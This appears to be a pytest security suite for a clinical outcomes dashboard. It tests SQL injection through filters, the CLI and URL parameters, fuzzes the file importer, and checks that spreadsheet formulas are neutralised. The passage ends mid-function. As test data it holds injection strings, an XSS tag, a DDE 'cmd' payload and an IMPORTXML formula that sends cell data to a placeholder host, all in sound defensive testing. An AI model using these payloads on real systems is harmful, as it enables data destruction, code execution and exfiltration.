"""Hostile input: SQL injection through every engine filter, the command line and the URL; a fuzzed importer
(random bytes, wrong encodings, huge fields, thousands of columns, odd Parquet types, deeply wrong values,
spreadsheet formulas) whose every outcome is a clean import or a clear error; formula neutralising in every CSV the
app writes; the upload size setting.

Databases are copies of the session's demo database (it may be open elsewhere in this process)."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import itertools
import os
import re
import shutil
import subprocess
import sys
import time
import tomllib
import zipfile
from pathlib import Path

import duckdb
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import streamlit as st
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st_
from streamlit.testing.v1 import AppTest

from dashboard import derive, outcomes, store
from dashboard.export import rejects_frame, to_csv_bytes, write_rejects_csv
from dashboard.ingest import FileReport, import_file, import_files
from dashboard.outcomes import OUTCOME_COLUMNS, Cohort, Filters, OutcomeError

PROJECT = Path(__file__).resolve().parent.parent
APP = str(PROJECT / "streamlit_app.py")
STATUSES = {"imported", "unchanged", "partly imported", "refused", "unreadable"}

LONG = "A" * 100_000  # under Linux's 128 KiB limit for one command-line argument
INJECTIONS = [
    "'; drop table scores; --",
    "x' or '1'='1",
    '"); delete from clients; --',
    "') union select client_id, 1 from clients --",
    "<script>alert(1)</script>",
    "ü漢字 \u202e\u200b 💊 Ω",
    LONG,
]
INJECTIONS_WITH_NUL = [*INJECTIONS, "a\x00'; drop table scores; --"]  # NUL cannot go on a command line
# what a leaked DuckDB error looks like: SQL clauses, its "LINE n:" pointer, its error classes, SQL functions the
# queries use, the importer's temp tables
SQL_LEAK = re.compile(
    r"\bselect\s.*\bfrom\b|\bfrom\s+\w+(\s+\w+)?\s+(where|join|left|group|order)\b|\bwhere\s+[\w.]+\s*(=|<|>|is\b|in\b)"
    r"|\bjoin\s+\w+(\s+\w+)?\s+on\b|\bunion\s+all\b|\bLINE \d+:|\b\w+ Error: "
    r"|\b(try_cast|nullif|regexp_\w+|struct_pack|list_\w+)\(|\b_(raw|checked|valid|ranked|firsts|incoming)\b",
    re.IGNORECASE,
)
# the engine's own messages are short and controlled: they may not even say these words
SQL_WORDS = re.compile(r"\bselect\b|\bfrom\s|\bwhere\b", re.IGNORECASE)
# a cell a spreadsheet would run (or that some spreadsheets strip down to one that it would run)
FORMULA_CELL = re.compile(r"^\s*[=+\-@]|^[\t\r]")
PLAIN_NEGATIVE = re.compile(r"-(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


# --- helpers -------------------------------------------------------------------------------------------


def copy_db(source: Path, target: Path) -> Path:
    """A copy of a database file (and its write-ahead log, if a connection elsewhere left one)."""
    shutil.copy(source, target)
    wal = Path(f"{source}.wal")
    if wal.exists():
        shutil.copy(wal, f"{target}.wal")
    return target


@pytest.fixture
def demo_copy(demo_db, tmp_path) -> Path:
    path = copy_db(demo_db, tmp_path / "copy.duckdb")
    store.connect(path).close()  # any migration or rebuild happens now, before the "before" fingerprint
    return path


def fingerprint(con: duckdb.DuckDBPyConnection) -> dict[str, tuple]:
    """Every table of the database: its row count and an order-independent hash of its rows."""
    tables = [
        r[0]
        for r in con.execute(
            "select table_name from information_schema.tables "
            "where table_schema = 'main' and table_type = 'BASE TABLE' order by table_name"
        ).fetchall()
    ]
    return {t: con.execute("select count(*), sum(hash(t)) from query_table($t) t", {"t": t}).fetchone() for t in tables}


def fingerprint_file(path: Path) -> dict[str, tuple]:
    con = store.connect(path, read_only=True)  # the app may have it open (read-only) meanwhile
    try:
        return fingerprint(con)
    finally:
        con.close()


def without(text: str, payload: str) -> str:
    """An error message with the user's own input taken out (echoing it back is not leaking SQL)."""
    for form in (repr(payload), payload):
        text = text.replace(form, "«input»")
    return text


def assert_clean_message(message: str, payload: str = "", strict: bool = False) -> None:
    """No SQL in a message shown to people; `strict`: not even the words select, from, where."""
    rest = without(message, payload) if payload else message
    assert not SQL_LEAK.search(rest), f"SQL leaks in: {rest[:300]}"
    assert not (strict and SQL_WORDS.search(rest)), f"SQL words in: {rest[:300]}"
    assert "Traceback" not in rest


def frames(result) -> list[pd.DataFrame]:
    return [r for r in (result if isinstance(result, tuple) else (result,)) if isinstance(r, pd.DataFrame)]


def formula_cells(data: bytes) -> list[str]:
    """The cells of a CSV file that a spreadsheet would run as formulas (plain negative numbers are data)."""
    out = []
    for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
        out += [c for c in row if FORMULA_CELL.match(c) and not PLAIN_NEGATIVE.fullmatch(c)]
    return out


def stored_formulas(con: duckdb.DuckDBPyConnection) -> list[tuple]:
    """Every text value in the database that starts with '=' and is not a number."""
    columns = con.execute(
        "select table_name, column_name from information_schema.columns c join information_schema.tables t "
        "using (table_schema, table_name) where table_schema = 'main' and t.table_type = 'BASE TABLE' "
        "and c.data_type = 'VARCHAR'"
    ).fetchall()
    found = []
    for table, column in columns:
        found += [
            (table, column, v)
            for (v,) in con.execute(
                f'select "{column}" from "{table}" where regexp_matches("{column}", \'^\\s*=\') '
                f'and try_cast(trim("{column}") as double) is null limit 3'
            ).fetchall()
        ]
    return found


def assert_clean_outcome(con: duckdb.DuckDBPyConnection, report) -> None:
    """A clean import or a clear error: a FileReport whose counts add up, a one-line message naming the file
    when it could not be read, reasons without SQL, and a database whose integrity checks pass."""
    assert isinstance(report, FileReport), report
    assert report.status in STATUSES, report.status
    assert report.records_read == report.imported + report.rejected + report.unchanged_duplicates, report.summary()
    assert len(report.rejects) == report.rejected
    if report.status == "unreadable":
        assert report.message.startswith(report.file + ":"), report.message
        assert "\n" not in report.message and len(report.message) < 400, report.message
    if report.status in ("unreadable", "refused"):
        assert report.imported == 0
    assert_clean_message(report.message)
    for reason in report.rejects["reason"]:
        assert_clean_message(str(reason))
    assert store.check_integrity(con) == []


# --- (a) the engine: every filter, the grouping and the instrument -----------------------------------------

STRING_FIELDS = ("cohort_from", "cohort_to", "focus")
TUPLE_FIELDS = ("modalities", "conditions", "sites", "clinicians", "age_bands")
ENGINE = [  # (function, extra arguments, takes `by`)
    ("outcomes_table", {}, True),
    ("flow_table", {}, True),
    ("kaplan_meier_table", {}, True),
    ("kaplan_meier_table", {"event": "relapse"}, True),
    ("trajectory", {}, True),
    ("improvement_by_dose", {}, True),
    ("band_transitions", {"target_day": 28, "window_days": 7}, False),
    ("doses_to_response", {}, True),
    ("suicidal_ideation", {}, True),
    ("funnel", {"by": "clinician", "target_day": 28, "window_days": 7}, True),
]


def call(con, name: str, extra: dict, instrument: str = "PHQ-9", filters=None, by: str | None = None):
    args = dict(extra)
    by = by or args.pop("by", "none")
    return getattr(outcomes, name)(con, Cohort(instrument, filters or Filters(), by), **args)


@pytest.mark.parametrize("payload", INJECTIONS_WITH_NUL, ids=lambda p: repr(p[:24]))
def test_injection_through_every_engine_filter_is_only_data(demo_copy, payload):
    con = store.connect(demo_copy)
    try:
        before = fingerprint(con)
        # a value of a list filter that matches no stored value selects nobody: a tautology does not widen it
        everything = Filters(**{f: (payload,) for f in TUPLE_FIELDS}, **{f: payload for f in STRING_FIELDS})
        for name, extra, takes_by in ENGINE:
            groupings = [{}] + ([{"by": "clinician_vs_rest"}] if takes_by and "by" not in extra else [])
            for kw in groupings:  # clinician_vs_rest: the one grouping that reads the focus filter
                result = call(con, name, extra, filters=everything, **kw)
                assert all(f.empty for f in frames(result)), (name, kw)
        assert outcomes.maintenance_by_week(con, Cohort(None, everything)).empty
        for field in TUPLE_FIELDS:
            for by in ("modality", "clinician_vs_rest"):
                table = outcomes.outcomes_table(con, Cohort("PHQ-9", Filters(**{field: (payload, "x")}), by))
                assert table.empty, (field, by)
        for field in STRING_FIELDS:  # compared as text: a filtered (or whole) cohort, never an error
            for by in ("modality", "clinician_vs_rest"):
                table = outcomes.outcomes_table(con, Cohort("PHQ-9", Filters(**{field: payload}), by))
                assert set(table.columns) == set(OUTCOME_COLUMNS)
        # the instrument, the grouping and the event are checked against what exists: a clean OutcomeError
        for name, extra, takes_by in ENGINE:
            with pytest.raises(OutcomeError) as bad_instrument:
                call(con, name, extra, instrument=payload)
            assert_clean_message(str(bad_instrument.value), payload, strict=True)
            if takes_by:
                with pytest.raises(OutcomeError) as bad_by:
                    call(con, name, extra, by=payload)
                assert_clean_message(str(bad_by.value), payload, strict=True)
        with pytest.raises(OutcomeError) as bad_event:
            outcomes.kaplan_meier_table(con, Cohort("PHQ-9"), event=payload)
        assert_clean_message(str(bad_event.value), payload, strict=True)
        assert fingerprint(con) == before
    finally:
        con.close()
    assert fingerprint_file(demo_copy) == before


@pytest.mark.parametrize("field", ["min_baseline", "integration", "modalities"])
def test_wrongly_typed_filters_fail_with_a_clean_error(demo_copy, field):
    payload = "'; drop table scores; --"
    con = store.connect(demo_copy)
    try:
        before = fingerprint(con)
        try:
            outcomes.outcomes_table(con, Cohort("PHQ-9", Filters(**{field: payload}), "modality"))
        except OutcomeError as exc:
            assert_clean_message(str(exc), payload, strict=True)
        except Exception as exc:  # the point: which exception escapes, and does it carry SQL
            raise AssertionError(f"{type(exc).__name__} escapes: {str(exc)[:200]}") from None
        assert fingerprint(con) == before
    finally:
        con.close()


# --- (b) the command line --------------------------------------------------------------------------------


def run_cli(*args, tmp_path: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "OUTCOMES_DB": str(tmp_path / "not-used.duckdb"), "PYTHONPATH": str(PROJECT)}
    return subprocess.run(
        [sys.executable, "-m", "dashboard", *map(str, args)],
        cwd=PROJECT,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )


def test_command_line_filters_carry_injection_as_data(demo_copy, tmp_path):
    before = fingerprint_file(demo_copy)
    filters = []
    for option in ("--modality", "--site", "--condition", "--clinician"):
        filters += [option, *INJECTIONS, f"{option}=-- drop table sessions"]  # a leading dash, as one value
    # a value that is none of the database's labels is refused with one line naming the option (issue 15)
    for fmt in ("csv", "json"):
        done = run_cli(
            "outcomes", "--db", demo_copy, "--instrument", "PHQ-9", *filters, "--format", fmt, tmp_path=tmp_path
        )
        assert done.returncode == 2 and done.stdout == "", done.stderr[-2000:]
        (line,) = done.stderr.strip().splitlines()
        assert line.startswith("error: --modality ") and "not in this database" in line
        assert_clean_message(line, INJECTIONS[0], strict=True)
    report = tmp_path / "report.html"
    done = run_cli("report", "--db", demo_copy, "--out", report, *filters, tmp_path=tmp_path)
    assert done.returncode == 2 and not report.exists(), done.stderr[-2000:]
    assert "Traceback" not in done.stderr
    assert fingerprint_file(demo_copy) == before


@pytest.mark.parametrize(
    "args, expected",
    [
        (["--instrument", "'; drop table scores; --"], "error: unknown instrument"),
        (["--instrument", "x' or '1'='1"], "error: unknown instrument"),
        (["--instrument", LONG], "error: unknown instrument"),
        (["--instrument", "PHQ-9", "--by", "modality; drop table scores"], "invalid choice"),
        (["--instrument", "PHQ-9", "--min-baseline", "1; delete from clients"], "use a number"),
        (["--instrument", "PHQ-9", "--integration", "yes' or '1'='1"], "use yes or no"),
        (["--instrument", "PHQ-9", "--at-days", "28:7); drop table scores; --"], "not DAY[:WINDOW]"),
    ],
    ids=["instrument", "tautology", "long", "by", "min-baseline", "integration", "at-days"],
)
def test_command_line_bad_values_exit_2_with_one_line(demo_copy, tmp_path, args, expected):
    before = fingerprint_file(demo_copy)
    done = run_cli("outcomes", "--db", demo_copy, *args, tmp_path=tmp_path)
    assert done.returncode == 2, (done.stdout[-500:], done.stderr[-500:])
    assert done.stdout == ""
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and expected in lines[0], done.stderr[:500]
    assert_clean_message(lines[0].replace("(choose from ", "(choices: "), args[-1], strict=True)  # argparse's
    assert fingerprint_file(demo_copy) == before


# --- (c) the URL -------------------------------------------------------------------------------------------

URL_KEYS = (
    "instrument",
    "modality",
    "condition",
    "site",
    "clinician",
    "integration",
    "from",
    "to",
    "min_baseline",
    "rates",
)


@pytest.fixture
def app(monkeypatch):
    """An AppTest of the app on a database, with Streamlit's caches cleared before and after."""

    def make(db: Path, query: dict) -> AppTest:
        monkeypatch.setenv(store.ENV_VAR, str(db))
        st.cache_data.clear()
        st.cache_resource.clear()
        at = AppTest.from_file(APP, default_timeout=120)
        for key, value in query.items():
            at.query_params[key] = value
        at.run()
        return at

    yield make
    st.cache_data.clear()
    st.cache_resource.clear()  # closes the app's connection to the copy


def metrics(at: AppTest) -> dict[str, str]:
    return {m.label: m.value for m in at.metric}


@pytest.mark.parametrize(
    "payloads",
    [
        ["'; drop table scores; --", "x' or '1'='1"],
        ['"); delete from clients; --', "<script>alert(1)</script>"],
        ["ü漢字 \u202e 💊", "A" * 5000, "nan", "-1e999"],
    ],
    ids=["quote", "paren-script", "unicode-long-numbers"],
)
def test_url_parameters_carry_injection_as_ignored_notices(app, demo_copy, payloads):
    before = fingerprint_file(demo_copy)
    clean = app(demo_copy, {})
    assert not clean.exception, [e.value for e in clean.exception]
    query = {
        key: payloads if key in ("modality", "condition", "site", "clinician") else payloads[0] for key in URL_KEYS
    }
    query["min_baseline"] = payloads[-1]
    query["x'; drop table clients; --"] = payloads[0]
    at = app(demo_copy, query)
    assert not at.exception, [e.value for e in at.exception]
    assert not at.error, [e.value for e in at.error]
    notices = [w.value for w in at.warning]
    for key in URL_KEYS:
        assert any(n.startswith(f"Ignored {key} ") for n in notices), (key, notices)
    assert any(n.startswith("Ignored unknown link parameter") for n in notices), notices
    for notice in notices:
        for payload in [*payloads, "x'; drop table clients; --"]:
            notice = without(notice, payload)
        assert_clean_message(notice)
    # every filter ignored: the view shows what the plain link shows
    assert metrics(at) and metrics(at) == metrics(clean)
    assert fingerprint_file(demo_copy) == before


# --- the upload size setting ---------------------------------------------------------------------------


def test_upload_size_is_limited_to_200_mb_by_default():
    config = tomllib.loads((PROJECT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] == 200


# --- the importer fuzzed ----------------------------------------------------------------------------------

FUZZ = settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
_counter = itertools.count()


def fresh(tmp_path: Path, suffix: str) -> Path:
    return tmp_path / f"f{next(_counter)}{suffix}"


def write_table(path: Path, header: list[str], rows: list[list], quoted: bool = True) -> Path:
    """rows as CSV (quoted properly, or joined raw), .xlsx (text cells) or Parquet (string columns)."""
    if path.suffix == ".csv":
        if quoted:
            buf = io.StringIO(newline="")
            csv.writer(buf, lineterminator="\n").writerows([header, *rows])
            path.write_text(buf.getvalue(), encoding="utf-8", newline="")
        else:
            path.write_text(
                "".join(",".join(map(str, r)) + "\n" for r in [header, *rows]), encoding="utf-8", newline=""
            )
    elif path.suffix == ".xlsx":
        from openpyxl import Workbook
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        book = Workbook()
        sheet = book.active
        for r, values in enumerate([header, *rows], start=1):
            for c, value in enumerate(values, start=1):
                cell = sheet.cell(row=r, column=c, value=ILLEGAL_CHARACTERS_RE.sub("", str(value)) or None)
                cell.data_type = "s" if cell.value is not None else cell.data_type  # text, never a formula
        book.save(path)
    else:
        columns = {
            h: pa.array([r[j] if j < len(r) else None for r in rows], type=pa.string()) for j, h in enumerate(header)
        }
        pq.write_table(pa.table(columns), path)
    return path


# what a clinic export might carry, valid and not, per column
GOOD = {
    "client_id": ["C1", "C2", "K-0042", "c1 "],
    "site": ["North", "South", "Zürich"],
    "condition": ["TRD", "PTSD", "MDD"],
    "age_band": ["18-24", "65+"],
    "sex": ["F", "M", "X"],
    "prior_treatments": ["0", "3", "12"],
    "session_at": ["2024-01-05", "2024-02-01T09:30", "2024-03-04T09:30+02:00"],
    "assessed_at": ["2024-01-04", "2024-01-06T10:00", "2024-02-02"],
    "session_type": ["dosing", "integration", "", "assessment"],
    "modality": ["IV", "im", "spravato", "troche", "ketamine via carrier pigeon"],
    "dose_mg": ["35", "0.5", "84"],
    "clinician_id": ["D1", "T7"],
    "session_id": ["S1", "S2"],
    "instrument": ["PHQ-9", "phq9", "GAD-7", "PCL-5", "Zung SDS"],
    "score": ["0", "14", "27", "80"],
    "phq9": ["5", "", "27"],
    "gad7": ["3", "", "21"],
    **{f"item_{i}": ["0", "1", "3", ""] for i in range(1, 10)},
}
NASTY = [
    "",
    " ",
    "NULL",
    "null",
    "None",
    "\\N",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "Infinity",
    "1e309",
    "-0",
    "0x10",
    "1,5",
    "١٢",
    "１２",
    "true",
    "[1, 2]",
    '{"a": 1}',
    "(1,2)",
    "<script>alert(1)</script>",
    "'; drop table scores; --",
    "x' or '1'='1",
    "2024-02-30",
    "2024-13-01",
    "0001-01-01",
    "9999-12-31",
    "2024-01-01T25:61",
    "epoch",
    "infinity",
    "today",
    "2024-01-01T00:00+99:00",
    "2024-01-01 00:00:00.123456789",
    "\u202e",
    "a" * 70,
    "9" * 400,
    "1e-400",
    "-1",
    "3.0000000000000001",
    '=HYPERLINK("http://x","y")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    " =1+1",
    "\t=1",
    "ﬁ",
    "İ",
    "ß",
    '"quoted"',
    "line\nbreak",
    "semi;colon",
    "a,b",
    "j.doe@example.org",
]
KIND_HEADERS = {
    "clients": ["client_id", "site", "condition", "age_band", "sex", "prior_treatments"],
    "sessions": [
        "client_id",
        "session_at",
        "session_type",
        "modality",
        "dose_mg",
        "clinician_id",
        "site",
        "session_id",
    ],
    "scores": ["client_id", "assessed_at", "instrument", "score", *[f"item_{i}" for i in range(1, 10)], "session_id"],
    "scores_wide": ["client_id", "assessed_at", "phq9", "gad7"],
}


@st_.composite
def export_files(draw, nasty=True):
    """(kind, header, rows, suffix, quoted): a small file of one kind with cells good and bad."""
    kind = draw(st_.sampled_from(sorted(KIND_HEADERS)))
    header = KIND_HEADERS[kind]
    if draw(st_.booleans()):  # sometimes columns missing, shuffled or duplicated
        header = draw(st_.lists(st_.sampled_from(header), min_size=1, max_size=len(header) + 1))
    cell = {h: st_.sampled_from(GOOD.get(h, ["x"])) for h in header}
    if nasty:
        cell = {h: st_.one_of(s, st_.sampled_from(NASTY), st_.text(max_size=12)) for h, s in cell.items()}
    rows = draw(st_.lists(st_.tuples(*[cell[h] for h in header]).map(list), min_size=0, max_size=6))
    suffix = draw(st_.sampled_from([".csv", ".csv", ".xlsx", ".parquet"]))
    return kind, header, rows, suffix, draw(st_.booleans())


@FUZZ
@given(export_files())
def test_fuzzed_export_files_import_cleanly_or_fail_clearly(con, tmp_path, spec):
    _, header, rows, suffix, quoted = spec
    path = write_table(fresh(tmp_path, suffix), header, rows, quoted)
    report = import_file(con, path, after_import=derive.rebuild)
    assert_clean_outcome(con, report)
    assert stored_formulas(con) == []


@FUZZ
@given(
    st_.sampled_from(["", ".csv", ".txt", ".xlsx", ".parquet", ".exe"]),
    st_.sampled_from([b"", b"PK\x03\x04", b"PAR1", b"\xef\xbb\xbf", b"client_id,site\n", b"\xff\xfe", b"\x00"]),
    st_.binary(max_size=3000),
)
def test_random_bytes_are_a_clear_error(con, tmp_path, suffix, magic, body):
    path = fresh(tmp_path, suffix)
    path.write_bytes(magic + body + (b"PAR1" if magic == b"PAR1" else b""))
    report = import_file(con, path)
    assert_clean_outcome(con, report)


def _valid_bytes(suffix: str, tmp_path: Path) -> bytes:
    path = write_table(
        fresh(tmp_path, suffix),
        KIND_HEADERS["clients"],
        [["C1", "North", "TRD", "18-24", "F", "2"], ["C2", "South", "PTSD", "65+", "M", "0"]],
    )
    return path.read_bytes()


@FUZZ
@given(
    st_.sampled_from([".xlsx", ".parquet"]),
    st_.lists(st_.tuples(st_.floats(0, 1), st_.integers(0, 255)), min_size=1, max_size=8),
    st_.one_of(st_.none(), st_.floats(0.05, 1)),
)
def test_damaged_xlsx_and_parquet_files_are_a_clear_error(con, tmp_path, suffix, flips, cut):
    data = bytearray(_valid_bytes(suffix, tmp_path))
    for where, byte in flips:
        data[min(int(where * len(data)), len(data) - 1)] = byte
    if cut is not None:
        data = data[: max(1, int(cut * len(data)))]
    path = fresh(tmp_path, suffix)
    path.write_bytes(bytes(data))
    assert_clean_outcome(con, import_file(con, path))


def test_damaged_parts_of_an_xlsx_file_are_a_clear_error(con, tmp_path):
    good = _valid_bytes(".xlsx", tmp_path)
    parts = zipfile.ZipFile(io.BytesIO(good)).namelist()
    for target in [*parts, None]:
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(good)) as source, zipfile.ZipFile(out, "w") as z:
            for part in parts:
                if part == target:
                    z.writestr(part, b"<garbage")
                elif not (target is None and part.startswith("xl/worksheets/")):  # None: the sheet left out
                    z.writestr(part, source.read(part))
        path = fresh(tmp_path, ".xlsx")
        path.write_bytes(out.getvalue())
        report = import_file(con, path)
        assert_clean_outcome(con, report)
        assert report.status in ("unreadable", "imported", "unchanged"), (target, report.summary())


ENCODINGS = [
    "latin-1",
    "cp1252",
    "mac_roman",
    "shift_jis",
    "gb18030",
    "utf-16",
    "utf-16-le",
    "utf-16-be",
    "utf-32",
    "utf-8-sig",
]


@FUZZ
@given(st_.sampled_from(ENCODINGS), st_.lists(st_.text(min_size=1, max_size=10), min_size=1, max_size=5))
def test_text_in_other_encodings_is_refused_with_a_clear_message(con, tmp_path, encoding, sites):
    cells = [s.replace('"', "") for s in sites]
    text = "client_id,site\n" + "".join(f'E{i},"{c}"\n' for i, c in enumerate(cells))
    data = text.encode(encoding, errors="replace")
    path = fresh(tmp_path, ".csv")
    path.write_bytes(data)
    report = import_file(con, path)
    assert_clean_outcome(con, report)
    try:
        data.decode("utf-8-sig")
        utf8 = b"\x00" not in data
    except UnicodeDecodeError:
        utf8 = False
    if not utf8:
        assert report.status == "unreadable"
        assert "UTF-8" in report.message or "binary" in report.message, report.message
    if encoding.startswith(("utf-16", "utf-32")):
        assert encoding[:6].upper() in report.message, report.message


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_utf16_and_utf32_are_named_as_such(con, write_file, encoding):
    report = import_file(con, write_file("u.csv", "client_id,site\nC1,Zürich\n".encode(encoding)))
    assert report.status == "unreadable"
    assert report.message == (
        f"u.csv: {encoding[:6].upper()} text, not UTF-8; save the file as UTF-8 CSV (in Excel: Save As, CSV UTF-8)"
    )


MB = 1_000_000


# a 1 MB value is rejected in every column: a code (64 characters at most), a label (80), a time, a vocabulary word
# or a number
MB_REJECTED = {
    "client_id",
    "clinician_id",
    "session_id",
    "site",
    "condition",
    "age_band",
    "sex",
    "modality",
    "session_at",
    "assessed_at",
    "instrument",
    "score",
    "item_1",
    "prior_treatments",
    "dose_mg",
    "session_type",
}


@pytest.mark.parametrize("kind", ["clients", "sessions", "scores"])
@pytest.mark.parametrize(
    "suffix, quoted",
    [(".csv", False), (".csv", True), (".parquet", True)],
    ids=["csv-fast-path", "csv-quoted", "parquet"],
)
def test_a_one_megabyte_field_in_any_column_is_handled(con, tmp_path, kind, suffix, quoted):
    header = KIND_HEADERS[kind]
    valid = ["C", "2024-01-04", "PHQ-9", "9", *["1"] * 9, "S1"] if kind == "scores" else [GOOD[h][0] for h in header]
    columns = [c for c in header if not c.startswith("item_") or c == "item_1"]
    rows = []
    for n, column in enumerate(columns):  # one row per column, that column 1 MB long
        row = [f"{valid[0]}{n}", *valid[1:]]
        row[header.index(column)] = "x" * MB
        rows.append(row)
    report = import_file(con, write_table(fresh(tmp_path, suffix), header, rows, quoted))
    assert_clean_outcome(con, report)
    rejected = {columns[line - (1 if suffix == ".parquet" else 2)] for line in report.rejects["line"]}
    assert rejected == MB_REJECTED & set(columns), report.summary()
    assert report.imported == len(columns) - len(rejected)


def test_a_one_megabyte_column_name_is_ignored(con, write_file):
    report = import_file(con, write_file("c.csv", f"client_id,{'n' * MB}\nC1,x\n"))
    assert_clean_outcome(con, report)
    # too long to be a column name that may be shown: named by its position
    assert report.status == "imported" and report.ignored_columns == ["column 2"]


def test_five_thousand_columns_import_in_seconds(con, write_file):
    header = ["client_id", *[f"extra_{i}" for i in range(4999)]]
    body = "".join(",".join([f"W{r}", *["v"] * 4999]) + "\n" for r in range(20))
    started = time.perf_counter()
    report = import_file(con, write_file("wide.csv", ",".join(header) + "\n" + body))
    seconds = time.perf_counter() - started
    assert_clean_outcome(con, report)
    assert report.status == "imported" and report.imported == 20
    assert seconds < 20, f"{seconds:.1f} s for 5,000 columns"  # was minutes and ~20 GB of memory
    assert len(report.summary()) < 2000 and "… and 4,969 more" in report.summary()


def test_an_identifier_in_the_last_of_five_thousand_columns_refuses_the_file(con, write_file):
    header = ["client_id", *[f"extra_{i}" for i in range(4999)]]
    cells = ["W1", *["v"] * 4998, "+44 7700 900123"]
    report = import_file(con, write_file("wide.csv", ",".join(header) + "\n" + ",".join(cells) + "\n"))
    assert report.status == "refused"
    assert "column 'extra_4998' holds what looks like a phone number" in report.message


def test_the_leftmost_identifier_cell_of_a_line_is_named(con, write_file):
    header = ["client_id", *[f"note_{i}" for i in range(12)]]
    cells = ["W1", "a", "555-123-4567", *["b"] * 7, "x@example.org", "c", "d"]
    report = import_file(con, write_file("n.csv", ",".join(header) + "\n" + ",".join(cells) + "\n"))
    assert report.status == "refused"
    assert "column 'note_1' holds what looks like a phone number" in report.message


def test_nine_hundred_ninety_nine_item_columns_import_in_seconds(con, write_file):
    header = ["client_id", "assessed_at", "instrument", "score", *[f"item_{i}" for i in range(1, 1000)]]
    rows = [f"P{r},2024-01-04,PHQ-9,{r % 27}" + "," * 999 for r in range(50)]
    rows.append("P99,2024-01-04,PHQ-9,," + ",".join(["1"] * 10) + "," * 989)  # item_10 of a 9-item scale
    started = time.perf_counter()
    report = import_file(con, write_file("items.csv", "\n".join([",".join(header), *rows]) + "\n"))
    seconds = time.perf_counter() - started
    assert_clean_outcome(con, report)
    assert (report.imported, report.rejected) == (50, 1)
    assert report.rejects["reason"].iloc[0] == "PHQ-9 has 9 items; item_10 should be empty"
    assert seconds < 20, f"{seconds:.1f} s for 999 item columns"  # was 90 s; 330+ items hit a parser limit


def test_a_gap_in_the_item_columns_is_rejected_not_summed(con, write_file):
    items = [n for n in range(1, 10) if n != 4]
    header = "client_id,assessed_at,instrument," + ",".join(f"item_{n}" for n in items)
    report = import_file(con, write_file("gap.csv", f"{header}\nG1,2024-01-04,PHQ-9,{','.join(['1'] * 8)}\n"))
    assert_clean_outcome(con, report)
    assert report.rejected == 1
    assert report.rejects["reason"].iloc[0] == "PHQ-9 needs 9 items (item_1 to item_9); the file has no item_4 column"


def test_an_item_0_column_is_ignored(con, write_file):
    report = import_file(
        con, write_file("i0.csv", "client_id,assessed_at,instrument,score,item_0\nZ1,2024-01-04,PHQ-9,5,1\n")
    )
    assert_clean_outcome(con, report)
    assert report.status == "imported" and report.ignored_columns == ["item_0"]


ODD_ARROW = {
    "list": pa.array([["a", "b"], None, []], type=pa.list_(pa.string())),
    "nested list": pa.array([[[1]], None, []], type=pa.list_(pa.list_(pa.int8()))),
    "struct": pa.array([{"x": 1}, None, {"x": None}], type=pa.struct([("x", pa.int64())])),
    "map": pa.array([[("k", 1)], None, []], type=pa.map_(pa.string(), pa.int64())),
    "binary": pa.array([b"\x00\xff", b"12", None]),
    "fixed binary": pa.array([b"ab", b"12", None], type=pa.binary(2)),
    "decimal": pa.array([decimal.Decimal("1.50"), decimal.Decimal("-3"), None], type=pa.decimal128(10, 2)),
    "date": pa.array([dt.date(2024, 1, 1), dt.date(1900, 1, 1), None]),
    "time": pa.array([dt.time(1, 2), None, dt.time(0, 0)]),
    "duration": pa.array([dt.timedelta(days=1), None, dt.timedelta(0)]),
    "dictionary": pa.array(["a", "PHQ-9", None]).dictionary_encode(),
    "null": pa.array([None, None, None], type=pa.null()),
    "bool": pa.array([True, False, None]),
    "int64 extremes": pa.array([2**62, -(2**62), None], type=pa.int64()),
    "float oddities": pa.array([float("nan"), float("inf"), 1e300]),
    "float32": pa.array([1.5, -2.0, None], type=pa.float32()),
    "timestamp": pa.array([dt.datetime(2024, 1, 1), None, dt.datetime(1, 1, 1)], type=pa.timestamp("us")),
    "timestamp tz": pa.array(
        [dt.datetime(2024, 1, 1, tzinfo=dt.UTC), None, None], type=pa.timestamp("ns", tz="Europe/Berlin")
    ),
    "large string": pa.array(['=HYPERLINK("http://x","y")', None, "x"], type=pa.large_string()),
}


@FUZZ
@given(st_.sampled_from(sorted(KIND_HEADERS)), st_.data())
def test_parquet_columns_of_every_type_import_cleanly(con, tmp_path, kind, data):
    header = KIND_HEADERS[kind]
    odd = data.draw(st_.lists(st_.sampled_from(header), min_size=1, max_size=3, unique=True))
    columns = {}
    for h in header:
        if h in odd:
            columns[h] = ODD_ARROW[data.draw(st_.sampled_from(sorted(ODD_ARROW)))]
        else:
            columns[h] = pa.array([GOOD[h][i % len(GOOD[h])] for i in range(3)])
    path = fresh(tmp_path, ".parquet")
    pq.write_table(pa.table(columns), path)
    report = import_file(con, path, after_import=derive.rebuild)
    assert_clean_outcome(con, report)
    assert stored_formulas(con) == []


# --- spreadsheet formulas ------------------------------------------------------------------------------------

FORMULA_PAYLOADS = [
    'HYPERLINK("http://x","y")',
    "cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    "1+1",
    "2",
    "A1",
    'IMPORTXML(CONCAT("http://x/?",A1),"//a")',
]


@st_.composite
def formulas(draw) -> str:
    prefix = draw(st_.sampled_from(["=", "+", "-", "@", " =", "\t=", "=="]))
    return prefix + draw(st_.one_of(st_.sampled_from(FORMULA_PAYLOADS), st_.text(max_size=10)))


@FUZZ
@given(st_.data())
def test_formula_cells_are_neutralised_in_every_csv_and_never_stored(con, tmp_path, data):
    paths = []
    for kind in ("clients", "sessions", "scores"):
        header = KIND_HEADERS[kind]
        rows = []
